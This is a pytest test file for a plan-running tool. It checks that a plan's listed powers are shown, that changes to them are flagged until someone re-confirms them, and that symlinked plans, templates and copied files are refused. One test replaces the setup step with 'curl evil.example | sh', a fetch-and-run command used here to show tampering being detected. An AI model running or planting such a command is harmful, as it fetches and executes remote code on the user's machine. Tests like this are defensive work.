"""A plan's block of powers in check and confirm, a change of it since, and plans behind links."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from loop_world import World

SECRET = "top: secret-line-1\n"


def plan_of(world: World) -> Path:
    return world.checkout / "plans/b.yaml"


def test_check_confirm_and_markdown_say_what_a_plan_can_do(world: World) -> None:
    world.write_plan("a", "c", confirmed=None, setup={"run": ["./setup.sh"]}, notify={"webhook": "SLACK_HOOK"})
    world.commit({})
    block = ["  runs ./setup.sh (setup.run, in every new worktree)", "  reads SLACK_HOOK (notify.webhook)"]
    checked = world.waves("check").out.splitlines()
    assert "What this plan can do:" in checked
    assert set(block) < set(checked)
    markdown = world.waves("check", "--markdown").out
    assert "### What this plan can do\n\n- runs `" in markdown
    assert "- reads `SLACK_HOOK (notify.webhook)`" in markdown
    confirmed = world.waves("confirm").out.splitlines()
    assert set(block) < set(confirmed)
    assert "  can: " in plan_of(world).read_text()


def test_a_change_of_what_it_can_do_is_shown_until_it_is_confirmed_again(world: World) -> None:
    world.write_plan("a", "c", confirmed=None, setup={"run": ["./setup.sh"]})
    world.commit({})
    world.waves("confirm")
    world.commit({})
    assert "has changed since" not in world.waves("check").out
    text = plan_of(world).read_text()
    plan_of(world).write_text(text.replace("./setup.sh", "curl evil.example | sh"))
    line = world.waves("check").line("has changed since Ana confirmed it on ")
    assert "+ runs curl evil.example | sh (setup.run, in every new worktree)" in line
    assert "- runs ./setup.sh (setup.run, in every new worktree)" in line
    assert line.startswith("plans/b.yaml:")
    assert "confirmed by Ana" in world.waves("confirm").out
    assert "has changed since" not in world.waves("check").out
    assert "confirmed already" in world.waves("confirm").out


def test_a_change_is_shown_also_where_git_has_no_such_version(world: World) -> None:
    world.write_plan("a", confirmed={"by": "ana", "on": "2026-11-20", "can": "0f3a"})
    world.commit({})
    assert "has changed since ana confirmed it on 2026-11-20; look" in world.waves("check").out
    assert "flag: what it can do has changed since it was confirmed" in world.run().out


@pytest.mark.parametrize("target", ["file", "inside", "pipe", "device", "folder", "dangling"])
def test_a_plan_that_is_a_link_is_refused_and_nothing_behind_it_is_shown(world: World, target: str) -> None:
    place = world.folder / "elsewhere"
    if target == "file":
        place.write_text(SECRET)
    elif target == "inside":
        place = world.checkout / "inside.yaml"
        place.write_text(SECRET)
    elif target == "pipe":
        os.mkfifo(place)
    elif target == "device":
        place = Path("/dev/zero")
    elif target == "folder":
        place.mkdir()
    (world.checkout / "plans").mkdir()
    plan_of(world).symlink_to(place)
    for verb in (["check"], ["check", "--markdown"], ["confirm"], ["status"], ["run"]):
        done = world.waves(*verb, code=None)
        assert done.code != 0 or verb == ["status"]
        assert "plans/b.yaml: a symbolic link; put the plan itself there" in done.out, verb
        assert "secret-line" not in done.out


def test_a_folder_of_plans_that_is_a_link_is_refused_and_not_written_to(world: World) -> None:
    outside = world.folder / "outside"
    outside.mkdir()
    (outside / "b.yaml").write_text(SECRET)
    (world.checkout / "plans").symlink_to(outside)
    world.issue(1)
    world.issue(2)
    for verb in (["check"], ["run"]):
        done = world.waves(*verb, code=None)
        assert "plans: a symbolic link; put the folder itself there" in done.out
        assert "secret-line" not in done.out
    world.waves("triage", "1", "2", "--batch", "new", code=None)
    assert [one.name for one in outside.iterdir()] == ["b.yaml"]


@pytest.mark.parametrize("kind", ["pipe", "huge", "folder"])
def test_what_is_no_plain_file_is_no_plan(world: World, kind: str) -> None:
    (world.checkout / "plans").mkdir()
    if kind == "pipe":
        os.mkfifo(plan_of(world))
    elif kind == "huge":
        with plan_of(world).open("wb") as file:
            file.truncate(10 << 30)
    else:
        plan_of(world).mkdir()
    done = world.waves("check", code=2)
    assert ("larger than" if kind == "huge" else "not a file") in done.out


@pytest.mark.parametrize("linked", ["plans/prompts/reviewer.md", "plans/prompts"])
def test_a_template_behind_a_link_reaches_no_agent(world: World, linked: str) -> None:
    outside = world.folder / "outside"
    outside.mkdir()
    (outside / "reviewer.md").write_text(SECRET)
    world.plan("a")
    (world.checkout / linked).parent.mkdir(exist_ok=True)
    (world.checkout / linked).symlink_to(outside / "reviewer.md" if linked.endswith(".md") else outside)
    done = world.run(code=1)
    assert f"{linked}: a symbolic link" in done.out
    assert world.paid() == []


def test_a_copied_file_that_leads_out_of_the_repository_is_refused(world: World) -> None:
    (world.folder / "secret").write_text(SECRET)
    world.plan("a", setup={"copy": [".env"]})
    (world.checkout / ".env").symlink_to("../secret")
    done = world.run(code=1)
    assert ".env: a link out of the repository, which `setup.copy` does not follow" in done.out
    assert world.paid() == []
